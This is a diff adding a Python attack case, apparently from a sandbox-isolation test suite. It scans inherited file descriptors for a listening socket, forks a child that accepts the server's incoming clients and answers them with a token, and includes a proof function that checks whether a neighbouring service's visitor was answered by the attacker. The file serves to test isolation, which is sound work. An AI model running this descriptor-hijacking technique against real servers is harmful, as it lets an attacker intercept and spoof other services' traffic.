@@ -1,0 +1,41 @@
+"""Accept the server's next client on an inherited listening socket."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from workloads.attacks.scene import Given, Scene
+
+
+def attack(given: Given) -> object:
+    import os
+    import socket
+
+    for number in range(3, 64):
+        try:
+            listener = socket.socket(fileno=os.dup(number))
+        except OSError:
+            continue
+        if listener.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
+            break
+        listener.close()
+    else:
+        raise PermissionError("none of its descriptors is a listening socket")
+    listener.setblocking(True)
+    process = os.fork()
+    if process == 0:
+        for _ in range(4):
+            client, _ = listener.accept()
+            client.recv(4096)
+            client.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + given.token.encode())
+            client.shutdown(socket.SHUT_RDWR)
+        os._exit(0)
+    return f"a child of the script accepts at descriptor {number}"
+
+
+def proof(scene: Scene) -> str | None:
+    for _ in range(8):
+        if scene.token.encode() in scene.visit().raw:
+            return "the neighbour's visitor was answered by the attacker"
+    return None
